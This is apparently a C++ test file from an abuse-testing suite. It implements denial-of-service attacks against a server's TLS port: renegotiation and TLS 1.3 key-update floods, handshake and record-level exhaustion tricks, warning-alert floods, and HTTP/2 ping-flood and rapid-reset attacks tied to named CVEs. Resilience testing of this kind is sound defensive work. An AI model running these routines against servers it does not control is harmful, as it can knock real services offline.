// Attacks on TLS itself, at a port that speaks it.
#include <openssl/evp.h>
#include <openssl/ssl.h>

#include <string>

#include "tests/abuse/attack.h"
#include "tests/abuse/tls_records.h"
#include "tests/net/http2_bytes.h"

namespace flagfall::abuse {
namespace {

using std::chrono::milliseconds;

constexpr char kHandshakeRecord = 22;
constexpr char kAlertRecord = 21;

// A record in the clear.
std::string Record(char type, absl::string_view bytes) {
  return std::string{type, 3, 1} + BigEndian(bytes.size(), 2) + std::string(bytes);
}

// What OpenSSL would send first.
std::string ClientHello() {
  SSL_CTX* const context = SSL_CTX_new(TLS_client_method());
  SSL* const tls = SSL_new(context);
  BIO* const out = BIO_new(BIO_s_mem());
  SSL_set_bio(tls, BIO_new(BIO_s_mem()), out);
  constexpr unsigned char kHttp2[] = {2, 'h', '2'};
  SSL_set_alpn_protos(tls, kHttp2, sizeof kHttp2);
  SSL_connect(tls);
  char* bytes = nullptr;
  const long size = BIO_get_mem_data(out, &bytes);
  std::string hello(bytes, static_cast<std::size_t>(size));
  SSL_free(tls);
  SSL_CTX_free(context);
  return hello;
}

// The server has signed, and waits.
void HalfOpenHandshakes(RawConnection& connection) {
  connection.Send(ClientHello());
  while (connection.Pause(milliseconds(1000))) {
  }
}

// As many signatures as the server gives.
void HandshakesGivenUp(RawConnection& connection) {
  connection.Send(ClientHello());
  while (connection.Receive() && connection.bytes_received() == 0) connection.Pause(milliseconds(1));
}

void WholeHandshakes(RawConnection& connection) { connection.ShakeHands(); }

// CVE-2011-1473: the client asks for handshake after handshake on one connection.
void Renegotiation(RawConnection& connection) {
  if (!connection.ShakeHands(TLS1_2_VERSION) || !connection.Send(Preface())) return;
  while (connection.Receive()) {
    SSL_renegotiate(connection.tls());
    SSL_do_handshake(connection.tls());
    connection.Pause(milliseconds(1));
  }
}

// New keys (TLS 1.3) again and again: records without any data for what is above.
void KeyUpdateFlood(RawConnection& connection) {
  if (!connection.ShakeHands() || !connection.Send(Preface())) return;
  while (connection.Receive()) {
    SSL_key_update(connection.tls(), SSL_KEY_UPDATE_NOT_REQUESTED);
    if (SSL_do_handshake(connection.tls()) != 1) connection.Pause(milliseconds(1));
  }
}

// The same, with an answer of the server's to each.
void KeyUpdateRequestFlood(RawConnection& connection) {
  if (!connection.ShakeHands() || !connection.Send(Preface())) return;
  for (;;) {
    SSL_key_update(connection.tls(), SSL_KEY_UPDATE_REQUESTED);
    if (SSL_do_handshake(connection.tls()) != 1 && !connection.Pause(milliseconds(1))) return;
  }
}

// A record of 23 bytes for each byte.
void RecordsOfOneByte(RawConnection& connection) {
  if (!connection.ShakeHands()) return;
  const std::string frames = Preface() + Repeated(Frame(kUnknownType, 0, std::string(kFrameBytes, 'x')), 100);
  for (const char byte : frames) {
    if (!connection.Send(absl::string_view(&byte, 1))) return;
  }
}

// Records of application data without data, and such that are nothing but 16 KiB of padding.
void EmptyRecords(RawConnection& connection) {
  if (!connection.ShakeHands()) return;
  TlsRecordWriter writer(connection.WriteRecords());
  connection.Send(writer.Next(Preface()));
  for (;;) {
    std::string records;
    for (int i = 0; i < 100; ++i) records += writer.Next("");
    if (!connection.Send(records)) return;
  }
}
void RecordsOfPadding(RawConnection& connection) {
  if (!connection.ShakeHands()) return;
  TlsRecordWriter writer(connection.WriteRecords());
  connection.Send(writer.Next(Preface()));
  while (connection.Send(writer.Next("", kFrameBytes))) {
  }
}

// Records of no bytes, in place of a handshake.
void EmptyRecordsForAHandshake(RawConnection& connection) {
  connection.Send(ClientHello());
  const std::string records = Repeated(Record(kHandshakeRecord, ""), 1000);
  while (connection.Send(records)) {
  }
}

// CVE-2016-8610: alerts that are only warnings, in place of a handshake.
void WarningAlerts(RawConnection& connection) {
  const std::string records = Repeated(Record(kAlertRecord, absl::string_view("\x01\x00", 2)), 1000);
  while (connection.Send(records)) {
  }
}

// A hello that claims 16 MiB, and goes on in one-byte records.
void HelloOfSixteenMib(RawConnection& connection) {
  connection.Send(Record(kHandshakeRecord, absl::string_view("\x01\xff\xff\xff", 4)));
  const std::string records = Repeated(Record(kHandshakeRecord, "x"), 1000);
  while (connection.Send(records)) {
  }
}

// HTTP/2 in the clear where TLS is spoken.
void ClearTextAtTlsPort(RawConnection& connection) { connection.Send(Preface() + CallHeaders(1, kPlayPath)); }

// The worst of the attacks in the clear, over TLS.
void PingFloodOverTls(RawConnection& connection) {
  if (connection.ShakeHands()) AttackNamed("PingFlood", FrameAttacks()).run(connection);
}
void RapidResetOverTls(RawConnection& connection) {
  if (connection.ShakeHands()) AttackNamed("RapidReset", StreamAttacks()).run(connection);
}

}  // namespace

std::vector<Attack> TlsAttacks() {
  using Demand = Attack::Demand;
  std::vector<Attack> attacks = {
      {"HalfOpenHandshakes", "", HalfOpenHandshakes, Demand::kEnd},
      {"HandshakesGivenUp", "", HandshakesGivenUp, Demand::kNone},
      {"WholeHandshakes", "", WholeHandshakes, Demand::kNone},
      {"Renegotiation", "CVE-2011-1473", Renegotiation, Demand::kNone},
      {"KeyUpdateFlood", "", KeyUpdateFlood, Demand::kEnd},
      {"KeyUpdateRequestFlood", "", KeyUpdateRequestFlood, Demand::kEnd},
      {"RecordsOfOneByte", "", RecordsOfOneByte, Demand::kNone},
      {"EmptyRecords", "", EmptyRecords},
      {"RecordsOfPadding", "", RecordsOfPadding},
      {"EmptyRecordsForAHandshake", "", EmptyRecordsForAHandshake, Demand::kEnd},
      {"WarningAlerts", "CVE-2016-8610", WarningAlerts, Demand::kEnd},
      {"HelloOfSixteenMib", "", HelloOfSixteenMib, Demand::kEnd},
      {"ClearTextAtTlsPort", "", ClearTextAtTlsPort, Demand::kEnd},
      {"PingFloodOverTls", "CVE-2019-9512", PingFloodOverTls},
      {"RapidResetOverTls", "CVE-2023-44487", RapidResetOverTls},
  };
  for (Attack& attack : attacks) attack.at_tls_port = true;
  return attacks;
}

}  // namespace flagfall::abuse
